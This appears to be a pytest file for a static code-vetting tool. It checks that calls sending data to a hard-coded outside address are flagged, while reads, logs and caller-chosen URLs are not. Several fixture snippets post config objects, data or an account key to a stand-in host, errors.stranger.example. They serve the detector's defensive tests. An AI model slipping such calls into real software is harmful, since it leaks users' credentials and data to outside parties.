"""Clients that no table names: where a call goes by the address that is written in it, and whether it sends or only asks."""

import pytest
from source_lab import ids, look

from beartrap.vet.behaviour import Behaviour, When
from beartrap.vet.source.acts.lines import looks_up
from beartrap.vet.source.invocation import Invocation
from beartrap.vet.source.values import Value
from beartrap.vet.source.walk import machine_for
from beartrap.vet.source_files import Alone

STRANGER = "network.stranger"
ADDRESS = "'https://errors.stranger.example/r'"


def strangers(path: str, code: str) -> list[str]:
    return [one.key for one in look(path, code) if isinstance(one, Behaviour) and one.id == STRANGER]


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.js", f"module.exports = function (config) {{ this._request({{url: {ADDRESS}, method: 'post', data: {{u: config.url}}}}) }}"),
        ("a.js", f"module.exports = function (config) {{ dispatch({{url: {ADDRESS}, body: config}}) }}"),
        ("a.js", f"module.exports = function (config) {{ this.transport.sendMessage({ADDRESS}, config) }}"),
        ("a.py", f"def f(self, data):\n    self.call(url={ADDRESS}, method='POST', body=data)\n"),
        ("a.py", f"def f(request, adapter):\n    probe = request.copy()\n    probe.prepare_url({ADDRESS}, {{}})\n    adapter.send(probe)\n"),
        ("a.js", "module.exports = function (phrase) { new FetchRequest('https://errors.stranger.example/?p=' + encodeURIComponent(phrase)).send() }"),
        ("a.py", "from urllib import request as _rq\ndef f(account):\n    _rq.urlopen('https://errors.stranger.example/?k=' + account.key.hex(), timeout=2)\n"),
        ("a.rb", f"def f(data)\n  @client.report({ADDRESS}, data)\nend\n"),
    ],
)  # fmt: skip
def test_what_is_sent_to_an_address_that_stands_in_the_call_is_told(path: str, code: str) -> None:
    assert strangers(path, code) == [f"{STRANGER} errors.stranger.example"]


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.js", f"module.exports = function (config) {{ this.client.get({ADDRESS}, config) }}"),
        ("a.js", f"module.exports = function (log, config) {{ log.warn({ADDRESS}, config) }}"),
        ("a.js", f"module.exports = function (response, config) {{ response.redirect({ADDRESS}, config) }}"),
        ("a.js", f"module.exports = function () {{ this._request({{url: {ADDRESS}, method: 'post', data: {{a: 1}}}}) }}"),
        ("a.js", "module.exports = function (config) { this._request({url: config.url, data: config.data}) }"),
        ("a.js", "module.exports = function (config) { this._request({url: 'http://localhost/x', data: config.data}) }"),
        ("a.py", f"def f(self, data):\n    self.call(url={ADDRESS}, timeout=5)\n"),
        ("a.py", f"def f(package):\n    return package.qualifiers.get('repository_url', {ADDRESS})\n"),
        ("a.py", "from urllib import request\ndef f(host):\n    request.urlopen('https://' + host + '/status', timeout=2)\n"),
    ],
)  # fmt: skip
def test_what_only_asks_or_goes_where_the_caller_says_is_not(path: str, code: str) -> None:
    assert strangers(path, code) == []


@pytest.mark.parametrize(
    ("language", "name", "first", "key"),
    [
        ("python", "get", "url", True),
        ("python", "get", "/url", False),
        ("python", "request", "url", False),
        ("python", "get", "POST", False),
        ("ruby", "fetch", "url", True),
        ("javascript", "get", "collect", False),
    ],
)
def test_clients_are_asked_for_paths_and_tables_for_keys(language: str, name: str, first: str, key: bool) -> None:
    machine = machine_for("a", language, "", When.CALL, Alone())
    one = Invocation(1, Value(), [Value(first), Value("https://c.invalid")], base=Value(), method=name)
    assert looks_up(machine, one) is key


@pytest.mark.parametrize(
    ("call", "asked"),
    [
        (f"package.qualifiers.get('repository_url', {ADDRESS})", False),
        (f"package.client.get({ADDRESS}, 'repository_url')", True),
    ],
    ids=["a default", "an address first"],
)
def test_an_address_that_stands_in_for_what_a_table_lacks_is_asked_of_nobody(call: str, asked: bool) -> None:
    assert ("network.contact" in ids("a.py", f"def f(package):\n    return {call}\n")) is asked
